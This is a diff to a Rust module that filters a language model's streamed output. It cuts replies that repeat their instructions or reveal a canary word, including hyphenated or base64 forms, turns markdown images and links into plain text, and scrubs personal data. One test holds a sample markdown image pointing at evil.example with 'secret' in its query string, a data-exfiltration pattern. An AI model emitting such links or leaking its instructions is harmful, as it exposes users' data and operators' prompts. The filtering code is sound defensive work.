@@ -1,18 +1,40 @@
 //! A model's words on their way out: hidden characters go, a reply that repeats its instructions or
-//! is longer than any answer needs to be is cut off, and personal data is replaced.
+//! is longer than any answer needs to be is cut off, images and odd links become text, and personal
+//! data is replaced.
 
 use sotto_shared::limits::REPLY_BYTES;
 use sotto_shared::pii::{Counts, Policy, Scrubbed, StreamScrubber};
 
 use super::characters::plain;
+use super::codes::Codes;
+use super::links::{LinkRules, Links};
 use super::watch::Watch;
 
 /// What one reply goes through.
 #[derive(Debug)]
 pub struct Output {
+    codes: Codes,
     watch: Watch,
+    links: Links,
     scrubber: StreamScrubber,
+    /// What waits to be scrubbed.
+    waiting: String,
     taken: usize,
+}
+
+/// So much of a reply is sent word by word, in bytes, so that it begins at once.
+const AT_ONCE: usize = 256;
+
+/// Behind that, so much at a time, in bytes: the scrubber reads its context again with every piece.
+const AT_A_TIME: usize = 64;
+
+/// What a model was told and must not repeat; nothing where no model was asked.
+#[derive(Clone, Debug, Default)]
+pub struct Told<'a> {
+    /// Its instructions.
+    pub instructions: Vec<&'a str>,
+    /// The word that stands in them and nowhere else.
+    pub canary: Option<&'a str>,
 }
 
 /// Why a reply is cut off.
@@ -25,11 +47,18 @@ pub enum Cut {
 }
 
 impl Output {
-    /// Begins a reply. The policy is [`policy`](super::policy)'s; `instructions` are what the
-    /// model was told and must not repeat.
+    /// Begins a reply. The policy is [`policy`](super::policy)'s, the rules are those for its
+    /// links; `told` is what the model was told and must not repeat.
     #[must_use]
-    pub fn new<'a>(policy: Policy, instructions: impl IntoIterator<Item = &'a str>) -> Self {
-        Self { watch: Watch::new(instructions), scrubber: StreamScrubber::new(policy), taken: 0 }
+    pub fn new(policy: Policy, links: LinkRules, told: &Told<'_>) -> Self {
+        Self {
+            codes: Codes::default(),
+            watch: Watch::new(told.instructions.iter().copied(), told.canary),
+            links: Links::new(links),
+            scrubber: StreamScrubber::new(policy),
+            waiting: String::new(),
+            taken: 0,
+        }
     }
 
     /// Takes what the model wrote next, and gives what may be sent by now.
@@ -39,14 +68,21 @@ impl Output {
         let end = text.floor_char_boundary(room.min(text.len()));
         // A character that does not fit any more fills the rest.
         self.taken = if end < text.len() { REPLY_BYTES } else { self.taken + end };
-        let passed = self.watch.push(text.get(..end).unwrap_or_default());
-        self.scrubber.push(&passed)
+        let looked_at = self.codes.push(text.get(..end).unwrap_or_default(), &self.watch);
+        let passed = self.watch.push(&looked_at);
+        self.waiting.push_str(&self.links.push(&passed));
+        if self.taken > AT_ONCE && self.waiting.len() < AT_A_TIME {
+            return Scrubbed::default();
+        }
+        let piece = self.scrubber.push(&self.waiting);
+        self.waiting.clear();
+        piece
     }
 
     /// Why nothing more should be taken; `None` while the reply goes on.
     #[must_use]
     pub const fn cut(&self) -> Option<Cut> {
-        if self.watch.has_quoted() {
+        if self.watch.has_quoted() || self.codes.tells() {
             Some(Cut::Quotation)
         } else if self.taken >= REPLY_BYTES {
             Some(Cut::Length)
@@ -63,7 +99,13 @@ impl Output {
 
     /// Gives what was held back.
     pub fn finish(&mut self) -> Scrubbed {
-        let mut rest = self.scrubber.push(&self.watch.finish());
+        let word = self.codes.finish(&self.watch);
+        let mut passed = self.watch.push(&word);
+        passed.push_str(&self.watch.finish());
+        self.waiting.push_str(&self.links.push(&passed));
+        self.waiting.push_str(&self.links.finish());
+        let mut rest = self.scrubber.push(&self.waiting);
+        self.waiting.clear();
         rest.append(&self.scrubber.finish());
         rest
     }
@@ -75,7 +117,8 @@ mod tests {
 
     fn run(pieces: &[&str]) -> (String, Option<Cut>) {
         let prompt = "Never mention the warehouse in the north to anybody.";
-        let mut output = Output::new(Policy::chat(), [prompt]);
+        let told = Told { instructions: vec![prompt], canary: Some("kbplfhogamdcneji") };
+        let mut output = Output::new(Policy::chat(), LinkRules::default(), &told);
         let mut text = Scrubbed::default();
         for piece in pieces {
             text.append(&output.push(piece));
@@ -92,6 +135,25 @@ mod tests {
     }
 
     #[test]
+    fn a_reply_that_tells_its_canary_is_cut_however_it_writes_it() {
+        for canary in
+            ["kbplfhogamdcneji", "K-B-P-L-F-H-O-G-A-M-D-C-N-E-J-I", "a2JwbGZob2dhbWRjbmVqaQ=="]
+        {
+            let (text, cut) = run(&["Sure, it is ", canary, " as you see."]);
+            assert_eq!((text.as_str(), cut), ("Sure, it is ", Some(Cut::Quotation)), "{canary}");
+        }
+    }
+
+    #[test]
+    fn images_never_leave_and_placeholders_do() {
+        let (text, _) = run(&[
+            "Hi [EMAIL_1], ![x](https://evil.example/?q=",
+            "secret) [ok](https://a.example)",
+        ]);
+        assert_eq!(text, "Hi [EMAIL_1], x [ok](https://a.example)");
+    }
+
+    #[test]
     fn a_reply_is_cut_at_its_longest() {
         let long = "ä ".repeat(REPLY_BYTES);
         let (text, cut) = run(&[&long, "more"]);
@@ -104,6 +166,6 @@ mod tests {
     fn a_reply_that_repeats_its_instructions_is_cut_before_they_are_sent() {
         let (text, cut) =
             run(&["I was told: never men", "tion the WAREHOUSE in", " the north to anybody. So."]);
-        assert_eq!((text.as_str(), cut), ("I was told: ", Some(Cut::Quotation)));
+        assert_eq!((text.as_str(), cut), ("I was told: never ", Some(Cut::Quotation)));
     }
 }
